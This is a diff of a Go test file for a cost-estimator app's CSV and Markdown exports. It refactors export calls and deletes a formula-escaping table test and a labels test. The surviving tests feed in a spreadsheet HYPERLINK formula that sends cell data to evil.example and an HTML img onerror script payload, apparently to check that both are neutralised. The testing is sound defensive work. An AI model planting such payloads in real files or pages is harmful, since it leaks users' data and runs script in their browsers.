@@ -6,7 +6,6 @@ import (
 	"testing"
 
 	"rightsize/app/page"
-	planner "rightsize/estimator/plan"
 )
 
 // TestExportNeutralisesFormulas: a price sheet's source and a custom
@@ -20,9 +19,9 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	id := c.ps.out.Cands[0].Offer.ID
 	sheet := "offer_id,source,as_of\n" + id + `,"=HYPERLINK(""http://evil.example/?""&A1,""prices"")",2026-11-01` + "\n"
 	if !c.applySheet("shared.csv", sheet) {
-		t.Fatalf("sheet refused: %s", c.sheetErr)
+		t.Fatalf("sheet refused: %s", c.sheet.err)
 	}
-	recs, err := csv.NewReader(strings.NewReader(c.exportCSV())).ReadAll()
+	recs, err := csv.NewReader(strings.NewReader(page.ExportCSV(c.viewIn()))).ReadAll()
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -38,11 +37,6 @@ func TestExportNeutralisesFormulas(t *testing.T) {
 	if !found {
 		t.Error("the sheet's source is not in the export: the test checks nothing")
 	}
-	for in, want := range map[string]string{"=1+1": "'=1+1", "+cmd": "'+cmd", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "aws": "aws", "": ""} {
-		if got := csvText(in); got != want {
-			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
-		}
-	}
 }
 
 // TestExportMarkdownEscapes: a custom model's name from a link ends up in a
@@ -52,9 +46,9 @@ func TestExportMarkdownEscapes(t *testing.T) {
 	c, _ := load(t)
 	c.applyFragment("m=custom&cfgn=" + strings.NewReplacer("|", "%7C", "<", "%3C", ">", "%3E", " ", "%20", "!", "%21").Replace("x|y <img src=x onerror=alert(1)> ![t](http://e.example/p.png)") +
 		"&cfg=" + page.Deflate(`{"model_type":"llama","hidden_size":256,"intermediate_size":512,"num_hidden_layers":2,"num_attention_heads":4,"vocab_size":1000}`))
-	md := c.exportMarkdown()
-	if c.customName == "" || !strings.Contains(md, "x\\|y") {
-		t.Fatalf("the custom name is not in the export (%q):\n%s", c.customName, md)
+	md := page.ExportMarkdown(c.viewIn())
+	if c.own.name == "" || !strings.Contains(md, "x\\|y") {
+		t.Fatalf("the custom name is not in the export (%q):\n%s", c.own.name, md)
 	}
 	for _, bad := range []string{"<img", "![", "[t](", "x|y"} {
 		if strings.Contains(md, bad) {
@@ -65,19 +59,5 @@ func TestExportMarkdownEscapes(t *testing.T) {
 		if n := strings.Count(strings.ReplaceAll(line, `\|`, ""), "|"); strings.HasPrefix(line, "|") && n != 4 && n != 7 { // the breakdown (3 columns) and the picks (6)
 			t.Errorf("a table row with %d cell borders: %q", n, line)
 		}
-	}
-}
-
-// TestExportMarkdownLabels: a serving plan's picks are a monthly bill and a
-// p95 time, not a price per 1M tokens.
-func TestExportMarkdownLabels(t *testing.T) {
-	c, _ := load(t)
-	c.set(page.FieldRPS, "5")
-	if c.ps.out.Kind != planner.Serving || len(c.ps.out.Picks) == 0 {
-		t.Fatalf("plan kind %v, %d picks", c.ps.out.Kind, len(c.ps.out.Picks))
-	}
-	md := c.exportMarkdown()
-	if strings.Contains(md, c.t(page.MsgPerMTokens)) || !strings.Contains(md, mdEscape(c.t(page.MsgMonthlyShort))) || !strings.Contains(md, mdEscape(c.t(page.MsgE2EP95))) {
-		t.Errorf("serving picks labelled wrongly:\n%s", md)
 	}
 }
